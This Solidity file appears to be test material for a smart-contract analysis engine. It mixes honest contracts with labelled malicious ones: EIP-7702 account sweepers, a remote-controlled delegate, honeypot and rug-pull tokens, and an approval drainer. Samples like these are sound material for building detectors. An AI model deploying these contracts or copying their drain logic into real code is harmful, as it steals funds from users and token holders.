// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// Contracts as a stranger would write them, bad and honest, to try the engine on code that it was not made with.

interface IERC20Like { function transfer(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); }

/// 7702: the payee is a storage variable of the account, set once.
contract StoredSweeper {
    address payable dest;
    function init(address payable to) external { if (dest == address(0)) dest = to; }
    receive() external payable { (bool ok,) = dest.call{value: msg.value}(""); require(ok); }
}
/// 7702: constant payee in fallback, with inline assembly.
contract AssemblySweeper {
    fallback() external payable {
        assembly { pop(call(gas(), 0x5678567856785678567856785678567856785678, selfbalance(), 0, 0, 0, 0)) }
    }
}
/// 7702: only the thief may call, with any target.
contract RemoteControlled {
    address constant boss = 0x4444444444444444444444444444444444444444;
    function run(address to, uint256 value, bytes calldata data) external payable { require(msg.sender == boss); (bool ok,) = to.call{value: value}(data); require(ok); }
    receive() external payable {}
}
/// 7702, honest: the account itself, or a signature of its key.
contract SimpleAccount {
    function execute(address to, uint256 value, bytes calldata data) external payable { require(msg.sender == address(this)); (bool ok,) = to.call{value: value}(data); require(ok); }
    function executeSigned(address to, uint256 value, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(keccak256(abi.encode(to, value, data, block.chainid)), v, r, s) == address(this));
        (bool ok,) = to.call{value: value}(data); require(ok);
    }
    receive() external payable {}
}

contract BaseToken {
    string public name = "Stranger Coin"; string public symbol = "STRG"; uint8 public decimals = 18; uint256 public totalSupply;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed, address indexed, uint256); event Approval(address indexed, address indexed, uint256);
    address public owner = msg.sender;
    constructor() { totalSupply = 1e24; balanceOf[msg.sender] = 1e24; }
    modifier onlyOwner() { require(msg.sender == owner, "Ownable"); _; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _move(f, to, v); return true; }
    function _move(address f, address to, uint256 v) internal virtual { balanceOf[f] -= v; balanceOf[to] += v; emit Transfer(f, to, v); }
}
/// Only the owner can sell.
contract OwnerSells is BaseToken { address public pair; function setPair(address p) external onlyOwner { pair = p; }
    function _move(address f, address to, uint256 v) internal override { require(to != pair || f == owner, "no"); super._move(f, to, v); } }
/// Marked bots cannot send.
contract BotToken is BaseToken { mapping(address => bool) bots; function setBots(address[] calldata a, bool b) external onlyOwner { for (uint i; i < a.length; i++) bots[a[i]] = b; }
    function _move(address f, address to, uint256 v) internal override { require(!bots[f] && !bots[to]); super._move(f, to, v); } }
/// The fee can be everything.
contract FeeToken is BaseToken { uint256 public fee; address public collector = msg.sender; function updateFees(uint256 f) external onlyOwner { fee = f; }
    function _move(address f, address to, uint256 v) internal override { uint256 cut = v * fee / 100; super._move(f, collector, cut); super._move(f, to, v - cut); } }
/// Balances out of nowhere under an innocent name.
contract SneakyMint is BaseToken { function rebase(address a, uint256 v) external onlyOwner { balanceOf[a] = v; } }
/// Takes from anybody.
contract Clawback is BaseToken { function reclaim(address f, uint256 v) external onlyOwner { _move(f, owner, v); } }
/// Honest: nothing but a token, its owner gone.
contract PlainCoin is BaseToken { constructor() { owner = address(0); } }
/// Honest: capped mint by the owner.
contract CappedCoin is BaseToken { function mint(address a, uint256 v) external onlyOwner { require(totalSupply + v <= 2e24); totalSupply += v; balanceOf[a] += v; emit Transfer(address(0), a, v); } }

/// Pulls what was approved, to its boss.
contract PermitDrainer { address boss = msg.sender;
    function multicall(address[] calldata t, bytes[] calldata d) external { require(msg.sender == boss); for (uint i; i < t.length; i++) { (bool ok,) = t[i].call(d[i]); ok; } }
    function pull(address token, address from, uint256 v) external { require(msg.sender == boss); IERC20Like(token).transferFrom(from, 0x1234123412341234123412341234123412341234, v * 80 / 100); IERC20Like(token).transferFrom(from, 0x4321432143214321432143214321432143214321, v * 20 / 100); } }
contract ClaimRewards { address payable boss = payable(msg.sender); function claimRewards() external payable {} function Claim() external payable {} function withdraw() external { require(msg.sender == boss); boss.transfer(address(this).balance); } }
/// Honest: escrow that gives back.
contract Escrow { mapping(address => uint256) public held; function deposit() external payable { held[msg.sender] += msg.value; } function withdraw() external { uint256 v = held[msg.sender]; held[msg.sender] = 0; payable(msg.sender).transfer(v); } }
/// Honest: a shop with a treasury.
contract Shop { address payable treasury = payable(msg.sender); mapping(uint256 => address) public bought; event Sold(uint256 id, address buyer); function buy(uint256 id) external payable { require(msg.value == 1 ether && bought[id] == address(0)); bought[id] = msg.sender; emit Sold(id, msg.sender); } function collect() external { treasury.transfer(address(this).balance); } }
contract Proxy1967 { constructor(address i) { assembly { sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, i) } } fallback() external payable { assembly { let i := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc) calldatacopy(0, 0, calldatasize()) let r := delegatecall(gas(), i, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch r case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } } }
